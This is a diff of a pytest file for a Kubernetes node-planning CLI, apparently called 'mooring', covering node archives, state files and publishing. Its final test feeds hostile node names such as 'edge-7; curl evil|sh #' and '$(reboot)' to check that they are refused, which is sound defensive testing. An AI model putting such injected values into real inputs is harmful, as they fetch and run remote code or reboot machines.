@@ -6,12 +6,13 @@ import gzip
 import json
 import os
 import shutil
+import socket
 import tarfile
 from pathlib import Path
 from typing import Any
 
 import pytest
-from tests.cli.command import EXAMPLES, Answered, mooring
+from tests.cli.command import EXAMPLES, PODS, Answered, mooring
 from tests.cli.made_up_node import SECRET, kubelet_pods, make_root, write_pods
 
 from mooring.engine.core.cpuset import CPUSet
@@ -44,15 +45,12 @@ def with_state(root: Path, pods: Path) -> Path:
     """Let the node run the pods, so that it has state files."""
     config = root / "etc/kubernetes/kubelet.yaml"
     saved = root / "var/lib/kubelet"
-    answered = mooring("plan", "-f", pods, "--machine", root, "--config", config, "--save-state", saved)
-    assert answered.code == 0, answered
+    mooring("plan", "-f", pods, "--machine", root, "--config", config, "--save-state", saved, code=0)
     return root
 
 
 def collected(root: Path, to: Path, *more: str | Path) -> Answered:
-    answered = mooring("collect", "--root", root, "--no-kubectl", "--to", to, *more)
-    assert answered.code == 0, answered
-    return answered
+    return mooring("collect", "--root", root, "--no-kubectl", "--to", to, *more, code=0)
 
 
 def about(archive: Path) -> Any:
@@ -189,23 +187,20 @@ def test_what_is_missing_is_reported_with_its_reason(root: Path, tmp_path: Path)
     found = parts(archive)
     assert found["pods"]["missing"] == "the cluster was not asked"
     assert found["state files"]["missing"] == "none could be read in /var/lib/kubelet"
-    answered = mooring("plan", "-f", EXAMPLES / "pods.yaml", "--node", archive, "-o", "json")
-    assert answered.document["pods"]
+    assert mooring("plan", "-f", EXAMPLES / "pods.yaml", "--node", archive, "-o", "json").document["pods"]
 
 
 @pytest.mark.skipif(os.geteuid() == 0, reason="root reads everything")
 def test_a_file_that_may_not_be_read_is_a_warning_and_the_rest_is_packed(root: Path, tmp_path: Path) -> None:
     (root / "proc/meminfo").chmod(0)
-    answered = collected(root, tmp_path / "node.tar.gz")
-    assert "/proc/meminfo: is not packed: permission denied" in answered.err
+    assert "/proc/meminfo: is not packed: permission denied" in collected(root, tmp_path / "node.tar.gz").err
 
 
 def test_a_file_that_is_too_large_is_a_warning_and_the_rest_is_packed(with_state: Path, tmp_path: Path) -> None:
     archive, state = tmp_path / "node.tar.gz", with_state / "var/lib/kubelet/cpu_manager_state"
     with state.open("r+b") as file:
         file.truncate(9 * 2**20)
-    answered = collected(with_state, archive)
-    assert "var/lib/kubelet/cpu_manager_state: is not packed: larger than" in answered.err
+    assert "var/lib/kubelet/cpu_manager_state: is not packed: larger than" in collected(with_state, archive).err
     assert "mooring-node/kubelet/memory_manager_state" in content(archive)
     assert parts(archive)["state files"]["missing"] == "no cpu_manager_state"
 
@@ -246,8 +241,9 @@ def test_absolute_links_below_another_root_are_meant_below_it(root: Path, tmp_pa
     ],
 )
 def test_bad_input_is_one_line_and_no_archive(tmp_path: Path, arguments: tuple[str, ...], complaint: str) -> None:
-    answered = mooring("collect", "--no-kubectl", *(argument.replace("{tmp}", str(tmp_path)) for argument in arguments))
-    assert answered.code == 2
+    answered = mooring(
+        "collect", "--no-kubectl", *(argument.replace("{tmp}", str(tmp_path)) for argument in arguments), code=2
+    )
     assert complaint in answered.complaint
     assert list(tmp_path.iterdir()) == []
 
@@ -278,8 +274,7 @@ def test_this_computer_can_be_collected(tmp_path: Path) -> None:
         return unnamed({**document, "numaNodes": nodes})
 
     packed = mooring("topology", "--node", archive, "-o", "json").document
-    live = mooring("topology", "-o", "json").document
-    assert without_memory(packed) == without_memory(live)
+    assert without_memory(packed) == without_memory(mooring("topology", "-o", "json").document)
 
 
 @pytest.mark.parametrize("version", ["banana", "2.0", "1.x"])
@@ -313,3 +308,185 @@ def unpacked(folder: Path) -> dict[str, str]:
         for path in folder.rglob("*")
         if path.is_symlink() or path.is_file()
     }
+
+
+# ``--node`` stands for machine, configuration, state and running pods; what is given besides replaces its part.
+
+
+@pytest.fixture
+def node(tmp_path: Path) -> Path:
+    root, pods = make_root(tmp_path / "root"), write_pods(tmp_path / "pods.json", kubelet_pods())
+    archive = tmp_path / "node.tar.gz"
+    mooring(
+        "collect",
+        "--root",
+        root,
+        "--no-kubectl",
+        "--pods",
+        pods,
+        "--kubelet-version",
+        "v1.37.1",
+        "--to",
+        archive,
+        code=0,
+    )
+    return archive
+
+
+@pytest.fixture
+def small(tmp_path: Path) -> Path:
+    file = tmp_path / "small.yaml"
+    file.write_text(
+        "kind: Pod\nmetadata: {name: small}\nspec: {containers: [{name: c, "
+        "resources: {limits: {cpu: 2, memory: 64Mi}}}]}\n",
+        encoding="utf-8",
+    )
+    return file
+
+
+def names(*arguments: str | Path) -> list[tuple[str, bool]]:
+    document = mooring("plan", *arguments, "-o", "json").document
+    return [(pod["name"], pod.get("running", False)) for pod in document["pods"]]
+
+
+def test_the_pods_of_the_archive_run_already(node: Path, small: Path) -> None:
+    assert names("-f", small, "--node", node) == [
+        ("shop-2", True),
+        ("shop-1", True),
+        ("shop-0", True),
+        ("small", False),
+    ]
+
+
+def test_active_replaces_the_pods_of_the_archive(node: Path, small: Path, tmp_path: Path) -> None:
+    running = write_pods(tmp_path / "running.json", kubelet_pods(1))
+    assert names("-f", small, "--node", node, "--active", running) == [("shop-0", True), ("small", False)]
+
+
+def test_a_machine_replaces_that_of_the_archive(node: Path, small: Path) -> None:
+    asked = ("plan", "-f", small, "--node", node, "-o", "json")
+    assert mooring(*asked).document["machine"].startswith("edge-7, captured 20")
+    assert mooring(*asked, "--machine", "small-1s8").document["machine"] == "small-1s8"
+    assert mooring("topology", "--node", node, "--machine", "small-1s8", "-o", "json").document["name"] == "small-1s8"
+
+
+def test_a_configuration_replaces_that_of_the_archive(node: Path, small: Path, tmp_path: Path) -> None:
+    none = tmp_path / "none.yaml"
+    none.write_text("kind: KubeletConfiguration\ncpuManagerPolicy: none\n", encoding="utf-8")
+    asked = ("plan", "-f", small, "--node", node)
+    assert "exclusive" in mooring(*asked).out
+    assert "exclusive" not in mooring(*asked, "--config", none).out
+
+
+def test_state_files_replace_those_of_the_archive(node: Path, small: Path, tmp_path: Path) -> None:
+    state = tmp_path / "state"
+    state.mkdir()
+    (state / "cpu_manager_state").write_text("torn", encoding="utf-8")
+    asked = ("plan", "-f", small, "--node", node, "-o", "json")
+    assert "startError" not in mooring(*asked).document
+    assert "startError" in mooring(*asked, "--state", state).document
+
+
+def test_a_pod_of_the_archive_cannot_be_admitted_once_more(node: Path, tmp_path: Path) -> None:
+    again = write_pods(tmp_path / "again.json", kubelet_pods(1))
+    assert "is also in the node archive" in mooring("plan", "-f", again, "--node", node, code=2).err
+
+
+def test_a_node_can_be_shown_with_its_pods_and_nothing_else(node: Path) -> None:
+    assert "customer/shop-0" in mooring("show", "--node", node, code=0).out
+
+
+@pytest.mark.parametrize("verb", [("plan", "-f", str(EXAMPLES / "pods.yaml")), ("show",), ("topology",)])
+def test_what_is_no_node_archive_is_one_line(verb: tuple[str, ...], tmp_path: Path) -> None:
+    for file in (EXAMPLES / "pods.yaml", tmp_path / "missing.tar.gz", tmp_path):
+        answered = mooring(*verb, "--node", file)
+        assert (answered.code, len(answered.err.splitlines())) == (2, 1), answered
+
+
+@pytest.mark.parametrize("verb", ["plan", "upgrade"])
+@pytest.mark.parametrize("below", ["", "kubelet", "link"])
+def test_an_unpacked_archive_is_never_written(node: Path, small: Path, tmp_path: Path, verb: str, below: str) -> None:
+    with tarfile.open(node) as archive:
+        archive.extractall(tmp_path, filter="data")
+    folder = tmp_path / "mooring-node"
+    (folder / "link").symlink_to(folder / "kubelet")
+    before = {file: file.read_bytes() for file in folder.rglob("*") if file.is_file()}
+    assert (folder / "kubelet").is_dir()
+    answered = mooring(verb, "-f", small, "--node", folder, "--save-state", folder / below, code=2)
+    assert answered.complaint == (
+        f"mooring: {folder / below}: --save-state: is also the directory of --node, whose files are never written; "
+        "name another directory"
+    )
+    assert {file: file.read_bytes() for file in folder.rglob("*") if file.is_file()} == before
+
+
+# Answers about a node archive name its node, and when it was captured.
+
+
+NODE = ("--node", EXAMPLES / "node")
+TITLE = "edge-7, captured 2026-09-14T07:30:00Z"
+TEXTS = [
+    ("plan", *PODS),
+    ("show",),
+    ("show", "-o", "svg"),
+    ("show", "-o", "html"),
+    ("topology",),
+    ("explain", *PODS),
+    ("explain", *PODS, "-o", "svg"),
+    ("whatif", *PODS),
+    ("whatif", *PODS, "--set", "topologyManagerPolicy=none"),
+    ("capacity", "--shape", "cpu=1,memory=1Gi"),
+    ("compare", *PODS, "--all-options"),
+    ("resize", *PODS, "core/upf-0/forwarder", "--cpu", "4"),
+    ("doctor",),
+    ("doctor", "--lint"),
+    ("publish", "--dry-run"),
+]
+
+
+@pytest.mark.parametrize("command", TEXTS, ids=" ".join)
+def test_texts_and_pictures_name_the_node_and_the_time(command: tuple[str, ...]) -> None:
+    answered = mooring(*command, *NODE, columns=200)
+    assert answered.code in (0, 1), answered.err
+    assert TITLE in answered.out
+
+
+@pytest.mark.parametrize("command", [TEXTS[0], TEXTS[7], TEXTS[9], TEXTS[12]], ids=" ".join)
+def test_documents_have_a_finding_about_the_archive(command: tuple[str, ...]) -> None:
+    document = mooring(*command, *NODE, "-o", "json").document
+    (found,) = [one for one in document["findings"] if one["code"] == "MOOR-583"]
+    assert (found["severity"], found["subject"]) == ("info", "edge-7")
+    assert document["machine"] == TITLE
+
+
+def test_what_is_published_has_the_name_of_the_archives_node(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.delenv("NODE_NAME", raising=False)
+    names = {
+        item["metadata"]["name"] for item in mooring("publish", "--dry-run", *NODE, "-o", "json").document["items"]
+    }
+    assert "edge-7" in names
+    assert socket.gethostname().lower() not in names
+    given = mooring("publish", "--dry-run", *NODE, "--node-name", "other", "-o", "json").document["items"]
+    assert "other" in {item["metadata"]["name"] for item in given}
+
+
+def test_collect_writes_when_it_was(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    root = make_root(tmp_path / "root")
+    collected = ("collect", "--root", root, "--no-kubectl", "--node-name", "n1", "--dry-run", "-o", "json")
+    monkeypatch.setenv("SOURCE_DATE_EPOCH", "86400")
+    assert json.loads(mooring(*collected).out)["captured"] == "1970-01-02T00:00:00Z"
+    monkeypatch.delenv("SOURCE_DATE_EPOCH")
+    assert json.loads(mooring(*collected).out)["captured"] > "2026"
+
+
+@pytest.mark.parametrize("name", ["edge-7; curl evil|sh #", "\x1b]0;owned\x07", "$(reboot)", "--all"])
+@pytest.mark.parametrize("verb", ["migrate", "doctor", "show"])
+def test_an_archive_of_a_node_that_no_node_is_called_is_refused(name: str, verb: str, tmp_path: Path) -> None:
+    node = tmp_path / "node"
+    shutil.copytree(EXAMPLES / "node", node)
+    about = json.loads((node / "mooring-node.json").read_text(encoding="utf-8"))
+    (node / "mooring-node.json").write_text(json.dumps(about | {"node": name}), encoding="utf-8")
+    answered = mooring(verb, "--node", node, code=2)
+    assert "mooring-node.json" in answered.complaint
+    assert "node: " in answered.complaint
+    assert "is not a valid name; " in answered.complaint
